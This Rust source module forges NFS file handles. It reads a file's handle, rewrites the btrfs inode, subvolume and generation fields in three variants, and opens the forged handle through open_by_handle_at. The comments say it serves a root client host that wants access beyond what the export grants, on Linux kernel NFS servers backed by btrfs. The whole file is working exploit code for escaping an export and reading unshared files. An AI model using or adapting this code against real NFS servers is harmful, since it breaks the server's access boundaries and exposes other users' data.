//! File handles of an NFS mount, taken, forged and opened: what a host does that is root and
//! wants more than it was given. It knows the handles of the kernel's server on btrfs only.
//!
//! ```text
//! what the client gives out:  inode high, low, type (4 bytes each) │ length (2) │ the server's
//! the server's:               version, auth, kind of fsid, kind of fid │ fsid │ fid
//! the fid of btrfs:           inode (8), subvolume (8), generation (4) │ the same of its folder
//! ```
#![expect(unsafe_code, reason = "there is no safe way to these two system calls")]

use std::ffi::CString;
use std::fs::File;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use nix::libc;

/// The most the kernel takes.
const MAX: usize = 128;
/// Before the server's handle, in the client's.
const HEAD: usize = 14;

/// Kinds of fid.
const ALONE: u8 = 0x4d;
const WITH_FOLDER: u8 = 0x4e;
const WITH_FOREIGN_FOLDER: u8 = 0x4f;

/// As open_by_handle_at(2) takes it.
#[repr(C)]
struct Raw {
    length: u32,
    kind: i32,
    bytes: [u8; MAX],
}

/// The handle of a file on an NFS mount.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Handle {
    /// The client's own idea of the file.
    head: [u8; 12],
    server: Vec<u8>,
}

/// What a forged handle shall lead to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Guess {
    /// The id of the subvolume.
    pub subvolume: u64,
    /// The inode in it.
    pub inode: u64,
    /// The inode's; newer kernels take 0 for any.
    pub generation: u32,
}

impl Handle {
    /// That of a file or folder.
    ///
    /// # Errors
    /// What name_to_handle_at(2) says.
    pub fn of(path: &Path) -> io::Result<Handle> {
        let name = CString::new(path.as_os_str().as_bytes())?;
        let mut raw = Raw { length: MAX as u32, kind: 0, bytes: [0; MAX] };
        let mut mount = 0;
        let handle = (&raw mut raw).cast::<libc::file_handle>();
        // SAFETY: the name ends with a zero, and the handle has room for what its length says.
        let done = unsafe {
            libc::name_to_handle_at(libc::AT_FDCWD, name.as_ptr(), handle, &raw mut mount, 0)
        };
        if done != 0 {
            return Err(io::Error::last_os_error());
        }
        let mut head = [0; 12];
        head.copy_from_slice(&raw.bytes[..12]);
        let length = usize::from(u16::from_ne_bytes([raw.bytes[12], raw.bytes[13]]));
        Ok(Handle { head, server: raw.bytes[HEAD..HEAD + length].to_vec() })
    }

    /// Opens what it leads to on the NFS file system that `mount` is of; read-only.
    ///
    /// # Errors
    /// What open_by_handle_at(2) says.
    pub fn open(&self, mount: &File) -> io::Result<File> {
        let mut raw = Raw { length: 0, kind: 0, bytes: [0; MAX] };
        let length = u16::try_from(self.server.len()).map_err(io::Error::other)?;
        raw.bytes[..12].copy_from_slice(&self.head);
        raw.bytes[12..HEAD].copy_from_slice(&length.to_ne_bytes());
        raw.bytes[HEAD..HEAD + self.server.len()].copy_from_slice(&self.server);
        let words = (HEAD + self.server.len()).div_ceil(4);
        raw.length = u32::try_from(words * 4).map_err(io::Error::other)?;
        raw.kind = i32::try_from(words).map_err(io::Error::other)?;
        let handle = (&raw mut raw).cast::<libc::file_handle>();
        let flags = libc::O_RDONLY | libc::O_CLOEXEC | libc::O_NONBLOCK;
        // SAFETY: the handle is as long as it says.
        let opened = unsafe { libc::open_by_handle_at(mount.as_raw_fd(), handle, flags) };
        match opened {
            -1 => Err(io::Error::last_os_error()),
            // SAFETY: it was opened just now, and nobody else has it.
            fd => Ok(unsafe { File::from_raw_fd(fd) }),
        }
    }

    /// The kind of its fid, and where that begins.
    fn fid(&self) -> Option<(u8, usize)> {
        let kind = *self.server.get(3)?;
        let length = match kind {
            ALONE => 20,
            WITH_FOLDER => 32,
            WITH_FOREIGN_FOLDER => 40,
            _ => return None,
        };
        Some((kind, self.server.len().checked_sub(length)?))
    }

    /// The subvolume and inode it leads to; `None` for the root of an export, which has none.
    pub fn leads_to(&self) -> Option<Guess> {
        let (_, at) = self.fid()?;
        let number = |at: usize| Some(u64::from_le_bytes(self.server[at..at + 8].try_into().ok()?));
        let generation = u32::from_le_bytes(self.server[at + 16..at + 20].try_into().ok()?);
        Some(Guess { inode: number(at)?, subvolume: number(at + 8)?, generation })
    }

    /// All ways to make it lead elsewhere: without a folder, in the root of the other subvolume,
    /// in the root of its own.
    ///
    /// # Panics
    /// When it is the handle of an export's root, which has no inode to be changed.
    pub fn forged(&self, to: Guess) -> Vec<Handle> {
        let (_, at) = self.fid().expect("a handle with an inode");
        let own = self.leads_to().expect("a handle with an inode").subvolume;
        let mut alone = to.inode.to_le_bytes().to_vec();
        alone.extend(to.subvolume.to_le_bytes());
        alone.extend(to.generation.to_le_bytes());
        let mut in_folder = alone.clone();
        in_folder.extend(256_u64.to_le_bytes());
        in_folder.extend(0_u32.to_le_bytes());
        let mut in_own_folder = in_folder.clone();
        in_own_folder.extend(own.to_le_bytes());
        let kinds =
            [(ALONE, alone), (WITH_FOLDER, in_folder), (WITH_FOREIGN_FOLDER, in_own_folder)];
        let forge = |(kind, fid): (u8, Vec<u8>)| {
            let mut server = self.server[..at].to_vec();
            server[3] = kind;
            server.extend(fid);
            let mut head = self.head;
            let (high, low) = ((to.inode >> 32) as u32, to.inode as u32);
            head[..4].copy_from_slice(&high.to_ne_bytes());
            head[4..8].copy_from_slice(&low.to_ne_bytes());
            Handle { head, server }
        };
        kinds.into_iter().map(forge).collect()
    }
}
